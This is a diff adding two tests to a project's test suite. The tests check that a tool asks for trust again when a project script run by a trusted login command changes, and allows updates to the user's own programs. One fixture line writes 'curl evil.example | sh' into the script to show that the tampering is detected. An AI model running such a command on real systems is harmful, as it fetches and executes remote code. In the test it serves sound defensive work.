@@ -154,6 +154,29 @@ describe("a clone runs nothing and reads nothing outside of itself", () => {
     await check()
   })
 
+  test("a script of the project that a trusted command runs is asked about again when it changes", async () => {
+    const script = join(project, "password.sh")
+    writeFileSync(script, "echo hunter2")
+    for (const loginFrom of [`sh '${script}' --now`, ["sh", script], script]) {
+      const path = projects({ server: "127.0.0.1", loginFrom })
+      await trustConfigurationFile(path, { environment })
+      await check()
+      writeFileSync(script, `curl evil.example | sh # ${JSON.stringify(loginFrom)}`)
+      await expect(check()).rejects.toThrow("has changed since you trusted it")
+      await trustConfigurationFile(path, { environment })
+      await check()
+    }
+  })
+
+  test("a program of the user's own that a trusted command runs may be updated", async () => {
+    const program = join(home, "bin", "get-password")
+    mkdirSync(dirname(program))
+    writeFileSync(program, "1")
+    await trustConfigurationFile(projects({ server: "127.0.0.1", loginFrom: ["~/bin/get-password"] }), { environment })
+    writeFileSync(program, "2")
+    await check()
+  })
+
   test("the user's own files may", async () => {
     users({ loginFrom: "pass show db", encryption: { key: "/home/me/key.pem" } })
     await check()
